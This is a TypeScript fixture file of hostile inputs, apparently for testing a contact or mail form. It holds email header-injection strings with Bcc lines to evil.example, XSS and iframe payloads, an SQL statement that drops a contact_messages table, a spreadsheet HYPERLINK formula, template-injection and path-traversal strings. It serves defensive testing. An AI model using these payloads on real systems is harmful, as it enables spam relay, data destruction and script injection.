/** Stands in every hostile input, to be looked for where no input may be. */
export const marker = "needle";

const lines: Record<string, string> = {
  "a header after CRLF": `Jo\r\nBcc: ${marker}@evil.example`,
  "a header after LF": `Jo\nBcc: ${marker}@evil.example`,
  "a header after CR": `Jo\rBcc: ${marker}@evil.example`,
  "a folded header": `Jo\r\n Bcc: ${marker}@evil.example`,
  "an encoded CRLF": `Jo%0d%0aBcc: ${marker}@evil.example`,
  "a whole mail": `Jo\r\n\r\n.\r\nMAIL FROM:<${marker}@evil.example>\r\nDATA\r\n`,
  "an encoded word": `=?utf-8?B?SmMNCkJjYzogYUBi?= ${marker}`,
  "the end of a line in Unicode": `Jo\u2028Bcc: ${marker}\u2029\u0085x`,
  "a list of addresses": `jo@example.com, ${marker}@evil.example`,
  "a name with an address": `"Jo" <${marker}@evil.example>`,
  NUL: `Jo\0${marker} and more`,
  "control characters": `Jo\x07\x08\x1b[31m${marker}\x7f\x9b`,
  "a high surrogate alone": `Jo \ud83d ${marker}`,
  "a low surrogate alone": `Jo \ude00 ${marker}`,
  "text turned around": `Jo \u202e${marker}\u202c \u2067${marker}`,
  "a name of nothing visible": `\u200b\u200d\u2060\ufeff${marker}`,
  "towers of accents": `${marker}${"\u0301\u0336\u0489".repeat(60)}`,
  "many faces as one": `👨‍👩‍👧‍👦🏴‍☠️ ${marker}`,
  markup: `<script>alert('${marker}')</script><img src=x onerror=alert(1)>`,
  "the end of the page": `</blockquote></body></html><iframe src="//evil.example/${marker}">`,
  "a quoted attribute": `"><svg/onload=alert(1)> ' ${marker} &amp; &#60;`,
  SQL: `'; drop table public.contact_messages; -- ${marker}`,
  "a spreadsheet's formula": `=HYPERLINK("http://evil.example","${marker}")`,
  templates: `{{constructor.constructor("${marker}")()}} \${7*7} <%= 7 %>`,
  "a place for a token": `UNSUBSCRIBE-TOKEN ${marker}`,
  "a path": `../../../../etc/passwd ${marker}`,
};

const longest = { "a long line": marker.repeat(5_000) };

/** What has been typed into forms to break them. */
export const hostileTexts = Object.entries({ ...lines, ...longest });

/** What a program may send where a text is wanted. */
export const wrongTypes: [string, unknown][] = [
  ["nothing", null],
  ["a number", 7],
  ["a huge number", 1e308],
  ["a boolean", true],
  ["a list", [marker]],
  ["an object", { toString: marker, __proto__: { x: marker } }],
  ["nested lists", JSON.parse(`${"[".repeat(900)}"${marker}"${"]".repeat(900)}`)],
];
